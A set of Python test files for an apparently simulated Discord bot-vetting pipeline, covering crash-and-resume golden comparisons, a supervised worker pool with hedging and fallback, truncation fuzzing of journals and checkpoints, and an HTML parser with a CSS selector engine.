

@pytest.mark.parametrize("scenario", sorted(SCENARIOS))
def test_kill_and_resume_matches_golden(scenario, goldens, tmp_path) -> None:
    """Kill at every fired point (first occurrence), resume, compare bytes."""
    golden_bytes, counts = goldens[scenario]
    overrides = SCENARIOS[scenario]
    failures: list[str] = []
    for point in sorted(counts):
        workdir = tmp_path / point.replace(".", "-")
        workdir.mkdir()
        config = _scenario_config(workdir, overrides)
        crashed = _run_driver(workdir, config, {ENV_CRASH_AT: point})
        if crashed.returncode != EXIT_CODE:
            failures.append(f"{point}: crash run exited {crashed.returncode}, wanted {EXIT_CODE}")
            continue
        resumed = _run_driver(workdir, config)
        if resumed.returncode != 0:
            failures.append(f"{point}: resume exited {resumed.returncode}:\n{resumed.stderr}")
            continue
        if (workdir / "out.json").read_bytes() != golden_bytes:
            failures.append(f"{point}: resumed result diverged from golden")
    assert not failures, "crash matrix failures:\n" + "\n".join(failures)


def test_kill_at_last_unit_resumes_identically(goldens, tmp_path) -> None:
    """Dying on the final unit of a stage must redo at most that unit."""
    golden_bytes, counts = goldens["sequential"]
    point = "traceability.after_bot"
    arm = f"{point}:{counts[point]}"
    config = _scenario_config(tmp_path, SCENARIOS["sequential"])
    crashed = _run_driver(tmp_path, config, {ENV_CRASH_AT: arm})
    assert crashed.returncode == EXIT_CODE
    resumed = _run_driver(tmp_path, config)
    assert resumed.returncode == 0, resumed.stderr
    assert (tmp_path / "out.json").read_bytes() == golden_bytes


def test_double_crash_then_resume(goldens, tmp_path) -> None:
    """Two consecutive crashes at different points still converge."""
    golden_bytes, _ = goldens["sequential"]
    config = _scenario_config(tmp_path, SCENARIOS["sequential"])
    first = _run_driver(tmp_path, config, {ENV_CRASH_AT: "journal.mid_append:3"})
    assert first.returncode == EXIT_CODE
    second = _run_driver(tmp_path, config, {ENV_CRASH_AT: "honeypot.after_bot:2"})
    assert second.returncode == EXIT_CODE
    resumed = _run_driver(tmp_path, config)
    assert resumed.returncode == 0, resumed.stderr
    assert (tmp_path / "out.json").read_bytes() == golden_bytes


def test_journal_only_resume_matches_golden(goldens, tmp_path) -> None:
    """Without a checkpoint, the journal alone must carry the resume."""
    golden_bytes, _ = goldens["sequential"]
    config = _scenario_config(tmp_path, SCENARIOS["sequential"])
    del config["checkpoint_path"]
    golden_dir = tmp_path / "golden"
    golden_dir.mkdir()
    golden_config = dict(config, journal_path=str(golden_dir / "journal.wal"))
    golden = _run_driver(golden_dir, golden_config)
    assert golden.returncode == 0, golden.stderr
    journal_golden = (golden_dir / "out.json").read_bytes()

    crashed = _run_driver(tmp_path, config, {ENV_CRASH_AT: "traceability.after_bot:5"})
    assert crashed.returncode == EXIT_CODE
    resumed = _run_driver(tmp_path, config)
    assert resumed.returncode == 0, resumed.stderr
    assert (tmp_path / "out.json").read_bytes() == journal_golden
    # The journal-only and checkpointed goldens describe the same campaign.
    assert journal_golden == golden_bytes
