"""Tests for the supervised vet-worker pool.

Covers the dispatch ledger's exactly-once book, the BotProfile codec, worker
↔ in-process verdict parity, crash detection / replacement / re-dispatch
(including ``REPRO_CRASH_AT``-armed workers), hedged retries with duplicate
suppression, the extended degradation ladder (pool down → in-process
fallback), the multi-client harness, the kill-storm contract, and the
cross-mode byte-equality guarantee (workers=0 vs workers=N).
"""

import dataclasses
import json
import time

import pytest

import repro.serving.workers as workers_module
from repro.core.vetting import VettingPipeline, VettingPolicy, VettingVerdict
from repro.discordsim import behaviors
from repro.discordsim.permissions import Permission, Permissions
from repro.ecosystem.generator import EcosystemConfig, InviteStatus, generate_ecosystem
from repro.ecosystem.policies import PolicySpec
from repro.serving import (
    DispatchInvariantError,
    DispatchLedger,
    LoadScript,
    ServicePolicy,
    ServingHarness,
    VettingService,
    WorkerPool,
    WorkerPoolPolicy,
)
from repro.serving.workers import bot_profile_from_payload, bot_profile_to_payload
from repro.sites.botwebsites import BotWebsiteBuilder
from repro.web.chaos import FaultSchedule
from repro.web.client import HttpClient
from repro.web.network import VirtualClock, VirtualInternet

QUICK = ServicePolicy(warmup=0.0, honeypot_observation=600.0, honeypot_overhead=60.0)
#: Tight wall-clock supervision so crash/hedge paths resolve in test time.
FAST_POOL = WorkerPoolPolicy(poll_interval=0.005, hedge_after=30.0, job_timeout=60.0)


@pytest.fixture(scope="module")
def ecosystem():
    return generate_ecosystem(EcosystemConfig(n_bots=120, seed=88, honeypot_window=20))


def build_world(ecosystem, policy=QUICK, seed=9, workers=0, pool_policy=None, chaos=None, bots=None):
    clock = VirtualClock()
    internet = VirtualInternet(clock, seed=seed)
    BotWebsiteBuilder(ecosystem).register(internet)
    if chaos is not None:
        internet.install_chaos(FaultSchedule(chaos, seed=31))
    service = VettingService(
        internet,
        bots if bots is not None else ecosystem.bots,
        policy=policy,
        seed=seed,
        workers=workers,
        pool_policy=pool_policy or (FAST_POOL if workers else None),
    )
    client = HttpClient(internet, client_id="test-driver")
    return internet, service, client


def clean_bot(ecosystem, name=None):
    """A bot that passes every static gate (same recipe as test_vetting)."""
    bot = next(
        b
        for b in ecosystem.bots
        if b.invite_status is InviteStatus.VALID and b.behavior == behaviors.BENIGN
    )
    clone = dataclasses.replace(bot)
    if name is not None:
        clone.name = name
    clone.permissions = Permissions.of(Permission.SEND_MESSAGES, Permission.EMBED_LINKS)
    clone.policy = PolicySpec(present=True, categories=frozenset({"collect", "use"}), link_valid=True)
    clone.github = None
    return clone


def clean_directory(ecosystem, count):
    """``count`` distinct always-approvable bots: every cold vet reaches the
    honeypot stage, so pool traffic is guaranteed, not luck-of-the-draw."""
    return {f"clean-{index:03d}": clean_bot(ecosystem, name=f"clean-{index:03d}") for index in range(count)}


def make_pool(size=2, seed=88, clock=None, policy=None):
    return WorkerPool(
        size,
        seed,
        VettingPolicy(dynamic_observation=600.0),
        clock or VirtualClock(),
        policy=policy or FAST_POOL,
    )


def get_json(client, service, path):
    response = client.get(f"https://{service.hostname}{path}")
    return response, json.loads(response.body)


# -- dispatch ledger ----------------------------------------------------------


class TestDispatchLedger:
    def test_open_complete_balances(self):
        ledger = DispatchLedger()
        job = ledger.open("bot:fp:0:code", "code", "bot", worker_id=0, now=10.0)
        assert job.job_id == 1
        assert ledger.in_flight == {1: job}
        assert ledger.complete(1, worker_id=0, now=12.0)
        assert job.state == "completed"
        assert job.completed_by == 0
        assert ledger.consistent
        assert ledger.to_dict()["opened"] == 1

    def test_duplicate_completion_suppressed(self):
        ledger = DispatchLedger()
        job = ledger.open("k", "code", "bot", 0, 0.0)
        ledger.hedge(job.job_id, 1)
        assert ledger.complete(job.job_id, 1, 1.0)
        assert not ledger.complete(job.job_id, 0, 2.0)  # the hedge loser
        assert ledger.duplicates_suppressed == 1
        assert ledger.completed == 1
        assert ledger.consistent

    def test_redispatch_and_hedge_are_attempts_not_jobs(self):
        ledger = DispatchLedger()
        job = ledger.open("k", "honeypot", "bot", 0, 0.0)
        ledger.redispatch(job.job_id, 1)
        ledger.hedge(job.job_id, 2)
        assert job.attempts == 3
        assert job.workers == [0, 1, 2]
        assert job.redispatches == 1 and job.hedged
        assert ledger.opened == 1
        ledger.complete(job.job_id, 2, 5.0)
        assert ledger.consistent

    def test_abandon_terminalizes(self):
        ledger = DispatchLedger()
        job = ledger.open("k", "code", "bot", 0, 0.0)
        record = ledger.abandon(job.job_id)
        assert record.state == "abandoned"
        assert ledger.abandoned == 1
        assert ledger.consistent
        with pytest.raises(DispatchInvariantError):
            ledger.abandon(job.job_id)

    def test_redispatch_of_settled_job_raises(self):
        ledger = DispatchLedger()
        job = ledger.open("k", "code", "bot", 0, 0.0)
        ledger.complete(job.job_id, 0, 1.0)
        with pytest.raises(DispatchInvariantError):
            ledger.redispatch(job.job_id, 1)

    def test_verify_catches_cooked_books(self):
        ledger = DispatchLedger()
        ledger.open("k", "code", "bot", 0, 0.0)
        ledger.opened += 1  # simulate a lost job
        assert not ledger.consistent
        with pytest.raises(DispatchInvariantError):
            ledger.verify()


# -- BotProfile codec ---------------------------------------------------------


class TestBotProfileCodec:
    def test_round_trip_identity(self, ecosystem):
        with_repo = next(b for b in ecosystem.bots if b.github is not None)
        without_repo = next(b for b in ecosystem.bots if b.github is None)
        for bot in (with_repo, without_repo):
            decoded = bot_profile_from_payload(bot_profile_to_payload(bot))
            assert decoded == bot

    def test_payload_is_json_and_deterministic(self, ecosystem):
        bot = ecosystem.bots[0]
        first = json.dumps(bot_profile_to_payload(bot), sort_keys=True)
        second = json.dumps(bot_profile_to_payload(bot), sort_keys=True)
        assert first == second


# -- worker parity ------------------------------------------------------------


class TestWorkerParity:
    def test_code_and_honeypot_match_in_process(self, ecosystem):
        pool = make_pool(size=2, seed=88)
        pipeline = VettingPipeline(VettingPolicy(dynamic_observation=600.0), seed=88)
        try:
            bot = next(b for b in ecosystem.bots if b.github is not None and b.github.has_source_code)
            delegated = pool.execute("code", bot, key="c")
            local = VettingVerdict(bot_name=bot.name, approved=True)
            pipeline.review_code(bot, local)
            assert delegated["ok"]
            assert delegated["approved"] == local.approved
            assert delegated["reasons"] == local.reasons

            target = ecosystem.bots[0]
            delegated = pool.execute("honeypot", target, key="h", observation=600.0)
            local = VettingVerdict(bot_name=target.name, approved=True)
            consumed = pipeline.review_dynamic(target, local, observation=600.0)
            assert delegated["ok"]
            assert delegated["approved"] == local.approved
            assert delegated["reasons"] == local.reasons
            assert delegated["consumed"] == pytest.approx(consumed)
            assert pool.ledger.consistent
        finally:
            pool.shutdown()

    def test_warmup_pings_make_pool_healthy(self):
        pool = make_pool(size=3)
        try:
            deadline = time.monotonic() + 10.0
            while pool.status != "healthy" and time.monotonic() < deadline:
                pool.reap()
                time.sleep(0.01)
            assert pool.status == "healthy"
            snapshot = pool.to_dict()
            assert snapshot["workers"] == 3
            assert all(worker["state"] == "ready" for worker in snapshot["per_worker"])
        finally:
            pool.shutdown()


# -- crash detection / replacement / re-dispatch ------------------------------


class TestCrashRecovery:
    def test_killed_worker_is_detected_and_replaced(self, ecosystem):
        pool = make_pool(size=2)
        try:
            killed = pool.kill_workers(1)
            assert killed == [0]
            result = pool.execute("code", ecosystem.bots[0], key="k")
            pool.reap()
            assert result is not None and result["ok"]
            assert pool.restarts >= 1
            crashes = [r for r in pool.faults.records if r.error_class == "WorkerCrashed"]
            assert crashes
            assert pool.ledger.consistent
        finally:
            pool.shutdown()

    def test_armed_mid_vet_cascades_to_fallback(self, ecosystem, monkeypatch):
        """REPRO_CRASH_AT reaches inside the pool: every (forked) worker dies
        at its first vet, re-dispatch burns its budget, the job is abandoned
        and the caller falls back in-process."""
        monkeypatch.setenv("REPRO_CRASH_AT", "serving.worker.mid_vet:1")
        pool = make_pool(size=2)
        try:
            result = pool.execute("code", ecosystem.bots[0], key="k")
            assert result is None
            assert pool.fallbacks == 1
            assert pool.ledger.abandoned == 1
            assert pool.ledger.redispatched == pool.policy.max_redispatches
            assert pool.restarts >= 1 + pool.policy.max_redispatches
            assert pool.ledger.consistent
        finally:
            pool.shutdown()

    def test_armed_before_result_loses_the_computed_vet(self, ecosystem, monkeypatch):
        """The worker does the work and dies with it — same observable
        outcome as dying before the work: exactly-once still holds."""
        monkeypatch.setenv("REPRO_CRASH_AT", "serving.worker.before_result:1")
        pool = make_pool(size=2)
        try:
            result = pool.execute("code", ecosystem.bots[0], key="k")
            assert result is None
            assert pool.ledger.abandoned == 1
            assert pool.ledger.consistent
        finally:
            pool.shutdown()

    def test_breakers_open_after_repeated_crashes(self, ecosystem, monkeypatch):
        monkeypatch.setenv("REPRO_CRASH_AT", "serving.worker.mid_vet:1")
        pool = make_pool(size=2)
        try:
            for index in range(4):
                pool.execute("code", ecosystem.bots[0], key=f"k{index}")
            snapshot = pool.to_dict()
            assert any(worker["breaker"] == "open" for worker in snapshot["per_worker"])
            # Dark slots mean immediate fallback without burning dispatches.
            before = pool.ledger.opened
            assert pool.execute("code", ecosystem.bots[0], key="final") is None
            assert pool.ledger.opened == before
            assert pool.status in ("degraded", "down")
        finally:
            pool.shutdown()


# -- hedged retries -----------------------------------------------------------


class TestHedging:
    def test_straggler_is_hedged_and_loser_suppressed(self, ecosystem, monkeypatch):
        original_main = workers_module.vet_worker_main
        original_exec = workers_module.execute_vet_job

        def straggling_main(worker_id, seed, policy, conn):
            if worker_id == 0:
                def delayed(pipeline, job):
                    if job.kind != "ping":
                        time.sleep(1.0)
                    return original_exec(pipeline, job)

                workers_module.execute_vet_job = delayed
            original_main(worker_id, seed, policy, conn)

        monkeypatch.setattr(workers_module, "vet_worker_main", straggling_main)
        pool = make_pool(
            size=2,
            policy=WorkerPoolPolicy(poll_interval=0.005, hedge_after=0.05, job_timeout=30.0),
        )
        try:
            # Round-robin from slot 0: the straggler gets the job first.
            result = pool.execute("code", ecosystem.bots[0], key="k")
            assert result is not None and result["ok"]
            assert pool.ledger.hedges == 1
            assert pool.ledger.completed == 1
            deadline = time.monotonic() + 10.0
            while pool.ledger.duplicates_suppressed == 0 and time.monotonic() < deadline:
                pool.reap()
                time.sleep(0.02)
            assert pool.ledger.duplicates_suppressed == 1
            assert pool.ledger.consistent
        finally:
            pool.shutdown()


# -- service integration: ladder + parity -------------------------------------


class TestServiceWithPool:
    def test_vet_bytes_identical_with_and_without_workers(self, ecosystem):
        targets = [b.name for b in ecosystem.bots[:4]]
        targets += [
            b.name
            for b in ecosystem.bots
            if b.github is not None and b.github.has_source_code
        ][:2]
        bodies = {}
        for workers in (0, 2):
            internet, service, client = build_world(ecosystem, workers=workers)
            try:
                bodies[workers] = [
                    client.get(f"https://{service.hostname}/vet/{name}").body for name in targets
                ]
            finally:
                service.shutdown()
        assert bodies[0] == bodies[2]

    def test_pool_down_falls_back_in_process(self, ecosystem):
        directory = clean_directory(ecosystem, 3)
        internet, service, client = build_world(ecosystem, workers=2, bots=directory)
        try:
            service.pool.kill_workers(2)  # the whole pool, SIGKILL, no warning
            response, payload = get_json(client, service, "/vet/clean-000")
            assert response.status == 200
            assert payload["approved"] is not None
            assert service.pool.fallbacks >= 1
            # Supervision resurrects the pool between requests...
            service.pool.reap()
            assert service.pool.restarts == 2
            before = service.pool.ledger.opened
            response, _ = get_json(client, service, "/vet/clean-001")
            assert response.status == 200
            # ...and the next cold vet is delegated again.
            assert service.pool.ledger.opened > before
        finally:
            service.shutdown()

    def test_armed_workers_never_5xx_the_endpoint(self, ecosystem, monkeypatch):
        monkeypatch.setenv("REPRO_CRASH_AT", "serving.worker.mid_vet:1")
        directory = clean_directory(ecosystem, 2)
        internet, service, client = build_world(ecosystem, workers=2, bots=directory)
        try:
            response, payload = get_json(client, service, "/vet/clean-000")
            assert response.status == 200
            assert service.pool.fallbacks >= 1
            assert any(r.error_class == "WorkerCrashed" for r in service.ledger.records)
            assert service.pool.ledger.consistent
        finally:
            service.shutdown()

    def test_update_bumps_job_epoch(self, ecosystem):
        internet, service, client = build_world(ecosystem, workers=0)
        bot = ecosystem.bots[0]
        key_before = service._job_key(bot, "honeypot")
        client.post(f"https://{service.hostname}/bots/{bot.name}/update")
        key_after = service._job_key(bot, "honeypot")
        assert key_before != key_after
        assert key_before.rsplit(":", 2)[0] == key_after.rsplit(":", 2)[0]

    def test_healthz_reports_pool(self, ecosystem):
        internet, service, client = build_world(ecosystem, workers=2)
        try:
            _, payload = get_json(client, service, "/healthz")
            assert payload["pool"]["workers"] == 2
            assert payload["pool"]["dispatch"]["consistent"] is True
        finally:
            service.shutdown()
        internet, service, client = build_world(ecosystem, workers=0)
        _, payload = get_json(client, service, "/healthz")
        assert payload["pool"] is None


# -- readiness-timeout satellite ----------------------------------------------


class TestReadinessTimeout:
    def test_await_ready_false_when_service_never_ready(self, ecosystem):
        internet, service, client = build_world(ecosystem)
        harness = ServingHarness(internet, service, seed=3)
        high_water = int(service.policy.queue_capacity * service.policy.ready_high_water)
        horizon = internet.clock.now() + 10**9
        for _ in range(high_water):
            service.queue.settle(horizon)  # in-flight forever: /readyz stays 503
        assert harness._await_ready() is False

    def test_timeout_is_recorded_and_fails_contract(self, ecosystem, monkeypatch):
        internet, service, client = build_world(ecosystem)
        harness = ServingHarness(internet, service, seed=3)
        monkeypatch.setattr(ServingHarness, "_await_ready", lambda self, polls=10: False)
        report = harness.run(LoadScript(waves=2, requests_per_wave=2, restart_at_wave=1))
        assert report.readiness_timeouts == 1
        assert report.readyz_recovered is False
        assert not report.contract_ok
        assert report.to_dict()["readiness_timeouts"] == 1


# -- multi-client harness + kill-storm contract -------------------------------


def run_harness(ecosystem, workers, *, seed=5, chaos="hostile", kill_at=None, directory_size=16):
    directory = clean_directory(ecosystem, directory_size)
    internet, service, client = build_world(
        ecosystem, workers=workers, chaos=chaos, bots=directory
    )
    harness = ServingHarness(internet, service, seed=seed)
    script = LoadScript(
        waves=4,
        requests_per_wave=4,
        clients=3,
        wave_gap=1_200.0,
        restart_at_wave=3,
        kill_workers_at_wave=kill_at,
        kill_workers=2,
    )
    try:
        report = harness.run(script)
    finally:
        harness.service.shutdown()
    return report


class TestMultiClientHarness:
    def test_same_seed_same_report(self, ecosystem):
        first = run_harness(ecosystem, workers=0)
        second = run_harness(ecosystem, workers=0)
        assert json.dumps(first.to_dict(), sort_keys=True) == json.dumps(
            second.to_dict(), sort_keys=True
        )

    def test_clients_multiply_the_stream(self, ecosystem):
        directory = clean_directory(ecosystem, 8)
        internet, service, client = build_world(ecosystem, bots=directory)
        harness = ServingHarness(internet, service, seed=5)
        report = harness.run(LoadScript(waves=2, requests_per_wave=5, clients=4))
        assert report.requests_sent == 2 * 5 * 4
        assert report.clients == 4

    def test_kill_storm_contract_and_cross_mode_bytes(self, ecosystem):
        """The acceptance-criteria test: 4 workers, hostile chaos, 2 workers
        SIGKILLed mid-wave, a service restart later — every admitted request
        terminal, the dispatch book balanced at every checkpoint, and the
        report (minus the execution plane) byte-identical to workers=0."""
        baseline = run_harness(ecosystem, workers=0)
        stormed = run_harness(ecosystem, workers=4, kill_at=1)

        assert stormed.contract_ok
        assert stormed.ledger_consistent
        assert stormed.workers_killed == 2
        # Every request reached a terminal outcome: a classified response
        # or a counted transport failure — nothing vanished.
        assert sum(stormed.status_counts.values()) + stormed.transport_errors == (
            stormed.requests_sent
        )
        assert baseline.pool is None
        # The clean directory guarantees cold vets reach the honeypot, so
        # the first pool genuinely carried delegated jobs before the storm.
        assert stormed.serving_metrics["served"] > 0

        left = json.dumps(baseline.comparable_dict(), sort_keys=True)
        right = json.dumps(stormed.comparable_dict(), sort_keys=True)
        assert left == right

    def test_restart_preserves_worker_count(self, ecosystem):
        directory = clean_directory(ecosystem, 4)
        internet, service, client = build_world(ecosystem, workers=2, bots=directory)
        harness = ServingHarness(internet, service, seed=5)
        try:
            report = harness.run(
                LoadScript(waves=2, requests_per_wave=2, restart_at_wave=1)
            )
            assert harness.service is not service
            assert harness.service.pool is not None
            assert harness.service.pool.size == 2
            assert report.workers == 2
            assert report.pool is not None
        finally:
            harness.service.shutdown()
