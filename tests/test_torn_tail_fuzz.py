"""Torn-tail fuzzing: truncate every durable artifact at every byte.

A crash (or a lying disk cache) can cut an append-only file anywhere
inside its final record, and an atomic snapshot can be tail-truncated by
the faults the storage shim injects.  For each artifact this suite cuts
the file at every byte boundary of the damage window and asserts the
recovery contract: the loader salvages the **maximal valid prefix** or
raises a typed corruption error — it never yields garbage records and
never crashes the resume path.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from repro.core.checkpoint import PipelineCheckpoint
from repro.core.journal import WriteAheadJournal
from repro.core.spill import SpillList
from repro.core.storage import ArtifactCorruptionError
from repro.honeypot.experiment import HoneypotReport
from repro.scraper.checkpoint import CrawlCheckpoint, sidecar_path
from repro.scraper.topgg import PermissionStatus, ScrapedBot


def _bot(index: int) -> ScrapedBot:
    return ScrapedBot(
        listing_id=index,
        name=f"bot-{index}",
        developer_tag=f"dev#{index:04d}",
        tags=("moderation",),
        description="x" * (index % 7),
        guild_count=10 * index,
        votes=index,
        invite_url=f"https://discord.com/oauth2?client_id={index}",
        website_url=None,
        github_url=None,
        built_with=None,
        permission_status=PermissionStatus.VALID,
        permission_names=("VIEW_CHANNEL",),
        scope_names=("bot",),
    )


def _truncated_copy(source: Path, cut: int, destination: Path) -> Path:
    destination.write_bytes(source.read_bytes()[:cut])
    return destination


# -- write-ahead journal -----------------------------------------------------


def test_journal_survives_every_cut_of_its_final_record(tmp_path):
    path = tmp_path / "wal"
    journal = WriteAheadJournal(path)
    for seq in range(3):
        journal.append("code", f"bot-{seq}", {"verdict": seq, "blob": "y" * 20})
    journal.close()
    data = path.read_bytes()
    # Byte offset where the final record starts = end of the 2-record prefix.
    prefix_end = data.rfind(b"\n", 0, len(data) - 1) + 1
    assert 0 < prefix_end < len(data)
    prefix_records = 2

    for cut in range(prefix_end, len(data) + 1):
        mangled = _truncated_copy(path, cut, tmp_path / f"wal-{cut}")
        reopened = WriteAheadJournal(mangled)
        records = reopened.pending("code")
        reopened.close()
        expected = 3 if cut == len(data) else prefix_records
        assert len(records) == expected, f"cut at byte {cut}"
        # Whatever replays is exactly the intact prefix — never garbage.
        for seq, record in enumerate(records):
            assert record.key == f"bot-{seq}"
            assert record.body["verdict"] == seq


def test_journal_truncated_tail_is_discarded_and_counted(tmp_path):
    path = tmp_path / "wal"
    journal = WriteAheadJournal(path)
    journal.append("code", "bot-0", {"verdict": 0})
    journal.append("code", "bot-1", {"verdict": 1})
    journal.close()
    data = path.read_bytes()
    path.write_bytes(data[:-4])  # tear the final record
    reopened = WriteAheadJournal(path)
    assert reopened.stats.discarded == 1
    assert "invalid trailing record" in reopened.discard_detail
    # The first append truncates the torn bytes, so the log stays clean.
    reopened.append("code", "bot-1", {"verdict": 1})
    records = reopened.pending("code")
    reopened.close()
    assert [record.seq for record in records] == [1, 2]


# -- spill files -------------------------------------------------------------


def test_spill_restore_salvages_every_cut_of_its_final_record(tmp_path):
    path = tmp_path / "records.jsonl"
    spill = SpillList(path)
    for index in range(3):
        spill.append({"bot": index, "payload": "z" * 15})
    spill.sync()
    spill.close()
    data = path.read_bytes()
    prefix_end = data.rfind(b"\n", 0, len(data) - 1) + 1

    for cut in range(prefix_end, len(data) + 1):
        mangled = _truncated_copy(path, cut, tmp_path / f"records-{cut}.jsonl")
        restored = SpillList(mangled, restore=True)
        expected = 3 if cut == len(data) else 2
        assert len(restored) == expected, f"cut at byte {cut}"
        items = list(restored)
        assert [item["bot"] for item in items] == list(range(expected))
        # The torn tail was physically truncated: appends extend cleanly.
        restored.append({"bot": expected, "payload": "fresh"})
        assert list(restored)[-1]["bot"] == expected
        restored.close()


def test_spill_mid_file_damage_raises_typed_corruption(tmp_path):
    path = tmp_path / "records.jsonl"
    spill = SpillList(path)
    for index in range(3):
        spill.append({"bot": index})
    spill.sync()
    spill.close()
    data = bytearray(path.read_bytes())
    data[3] = 0xFF  # garble the first record, not the tail
    path.write_bytes(bytes(data))
    restored = SpillList(path, restore=True)
    # The valid prefix before the damage is empty; acknowledged count drops
    # to zero rather than trusting records past the garbled line.
    assert len(restored) == 0
    restored.close()

    # An intact-looking count with damaged bytes must raise, not yield junk.
    fresh = SpillList(tmp_path / "other.jsonl")
    fresh.append({"bot": 0})
    fresh.sync()
    fresh.close()
    (tmp_path / "other.jsonl").write_bytes(b'{"bot": \xff}\n')
    reloaded = SpillList(tmp_path / "other.jsonl", restore=True)
    reloaded._count = 1  # simulate an acknowledged record the disk garbled
    with pytest.raises(ArtifactCorruptionError):
        list(reloaded)
    reloaded.close()


# -- crawl checkpoint sidecar ------------------------------------------------


def test_crawl_sidecar_survives_every_cut_of_its_final_record(tmp_path):
    path = tmp_path / "crawl.ckpt"
    checkpoint = CrawlCheckpoint()
    checkpoint.record_page(1, [_bot(1), _bot(2)])
    checkpoint.save(path)
    checkpoint.record_page(2, [_bot(3)])
    checkpoint.save(path)
    sidecar = sidecar_path(path)
    data = sidecar.read_bytes()
    prefix_end = data.rfind(b"\n", 0, len(data) - 1) + 1

    for cut in range(prefix_end, len(data) + 1):
        workdir = tmp_path / f"cut-{cut}"
        workdir.mkdir()
        meta_copy = workdir / "crawl.ckpt"
        meta_copy.write_bytes(path.read_bytes())
        _truncated_copy(sidecar, cut, sidecar_path(meta_copy))
        # The meta counts 3 acknowledged bots.  Either every record's bytes
        # survived the cut (a lost trailing newline loses no data) and the
        # load recovers the exact golden set — or acknowledged data is gone
        # and the load is typed corruption, never a fabricated record.
        from repro.scraper.checkpoint import CheckpointCorruptionError

        try:
            loaded = CrawlCheckpoint.load(meta_copy)
        except CheckpointCorruptionError:
            recovered = CrawlCheckpoint.load_or_empty(meta_copy)
            assert recovered.bots == [] and recovered.completed_pages == []
            assert (workdir / "crawl.ckpt.corrupt").exists()
        else:
            assert [bot.listing_id for bot in loaded.bots] == [1, 2, 3], f"cut at byte {cut}"
            assert cut >= len(data) - 1  # only a complete final record loads


def test_crawl_sidecar_extra_tail_is_truncated_not_trusted(tmp_path):
    path = tmp_path / "crawl.ckpt"
    checkpoint = CrawlCheckpoint()
    checkpoint.record_page(1, [_bot(1)])
    checkpoint.save(path)
    sidecar = sidecar_path(path)
    # A crash between the sidecar append and the meta rename leaves lines
    # beyond the authoritative count; they must be dropped, not revived.
    with open(sidecar, "ab") as handle:
        handle.write(b'{"half": "a record')
    loaded = CrawlCheckpoint.load(path)
    assert [bot.listing_id for bot in loaded.bots] == [1]
    assert b"half" not in sidecar.read_bytes()


# -- pipeline checkpoint snapshot --------------------------------------------


def test_pipeline_checkpoint_never_crashes_or_fabricates_under_truncation(tmp_path):
    path = tmp_path / "pipeline.ckpt"
    checkpoint = PipelineCheckpoint()
    checkpoint.store_honeypot(
        HoneypotReport(outcomes=[], triggers=[], manual_verifications=2, install_failures=1, captcha_cost=1.5)
    )
    checkpoint.world_state = {"main": {"clock": 12.0}}
    checkpoint.save(path)
    data = path.read_bytes()
    golden = json.loads(data)

    cuts = set(range(max(0, len(data) - 512), len(data) + 1)) | set(range(0, len(data), 97))
    for cut in sorted(cuts):
        mangled = tmp_path / "mangled.ckpt"
        mangled.write_bytes(data[:cut])
        recovered = PipelineCheckpoint.load_or_empty(mangled)  # must never raise
        for stage, entry in recovered.stages.items():
            # Anything salvaged is byte-faithful to what was stored.
            assert entry == golden["stages"][stage], f"cut at byte {cut}"
            assert PipelineCheckpoint._stage_round_trips(stage, entry)
        (tmp_path / "mangled.ckpt.corrupt").unlink(missing_ok=True)
    # The untruncated file loads whole.
    mangled = tmp_path / "mangled.ckpt"
    mangled.write_bytes(data)
    assert PipelineCheckpoint.load_or_empty(mangled).completed_stages == ["honeypot"]
