"""Tests for the HTML parser and CSS selector engine."""

import pytest

from repro.web.dom import Element, parse_html, select

SAMPLE = """
<html><head><title>Sample</title></head>
<body>
  <div id="main" class="wrap outer">
    <h1 class="bot-title">MegaBot</h1>
    <ul id="permission-list">
      <li class="permission-item">administrator</li>
      <li class="permission-item">send messages</li>
    </ul>
    <div class="links">
      <a id="website-link" rel="website" href="https://megabot.sim/">Website</a>
      <a id="github-link" rel="github" href="https://github.sim/dev/megabot">GitHub</a>
      <a class="nav-link" href="/privacy">Privacy Policy</a>
    </div>
  </div>
  <footer><p>© 2022</p></footer>
</body></html>
"""


@pytest.fixture
def doc() -> Element:
    return parse_html(SAMPLE)


class TestParsing:
    def test_title_text(self, doc):
        assert doc.select_one("title").text == "Sample"

    def test_void_elements_do_not_swallow_siblings(self):
        doc = parse_html("<p>a<br>b</p><p>c</p>")
        paragraphs = doc.find_all("p")
        assert len(paragraphs) == 2
        assert paragraphs[0].text == "ab"

    def test_unclosed_tags_tolerated(self):
        doc = parse_html("<div><p>one<p>two</div><span>after</span>")
        assert doc.select_one("span").text == "after"

    def test_stray_end_tag_ignored(self):
        doc = parse_html("</div><p>ok</p>")
        assert doc.select_one("p").text == "ok"

    def test_attributes_parsed(self, doc):
        anchor = doc.select_one("#website-link")
        assert anchor.get("href") == "https://megabot.sim/"
        assert anchor.get("rel") == "website"
        assert anchor.get("missing") is None

    def test_entities_decoded(self):
        doc = parse_html("<p>a &amp; b</p>")
        assert doc.select_one("p").text == "a & b"

    def test_text_normalises_whitespace(self, doc):
        assert doc.select_one("h1").text == "MegaBot"

    def test_self_closing_tag(self):
        doc = parse_html('<div><img src="x.png"/><p>after</p></div>')
        assert doc.select_one("img").get("src") == "x.png"
        assert doc.select_one("p").text == "after"


class TestSelectors:
    def test_by_tag(self, doc):
        assert len(doc.select("li")) == 2

    def test_by_id(self, doc):
        assert doc.select_one("#main").tag == "div"

    def test_by_class(self, doc):
        assert doc.select_one(".bot-title").text == "MegaBot"

    def test_multi_class_element(self, doc):
        assert doc.select_one(".wrap.outer").id == "main"

    def test_compound_tag_and_class(self, doc):
        assert len(doc.select("li.permission-item")) == 2
        assert doc.select("div.permission-item") == []

    def test_attribute_presence(self, doc):
        assert len(doc.select("a[rel]")) == 2

    def test_attribute_equals(self, doc):
        assert doc.select_one("a[rel=github]").id == "github-link"

    def test_attribute_prefix(self, doc):
        assert doc.select_one('a[href^="https://github"]').id == "github-link"

    def test_attribute_contains(self, doc):
        assert doc.select_one('a[href*="megabot.sim"]').id == "website-link"

    def test_attribute_suffix(self, doc):
        assert doc.select_one('a[href$="/privacy"]').text == "Privacy Policy"

    def test_descendant_combinator(self, doc):
        assert len(doc.select("#main li")) == 2
        assert doc.select("footer li") == []

    def test_child_combinator(self, doc):
        assert len(doc.select("ul > li")) == 2
        assert doc.select("#main > li") == []

    def test_group_selector(self, doc):
        results = doc.select("h1, footer p")
        assert [node.tag for node in results] == ["h1", "p"]

    def test_universal_selector(self, doc):
        assert len(doc.select("#permission-list *")) == 2

    def test_document_order_and_dedup(self, doc):
        results = doc.select("a, a[rel]")
        assert len(results) == 3  # no duplicates
        assert [node.id for node in results[:2]] == ["website-link", "github-link"]

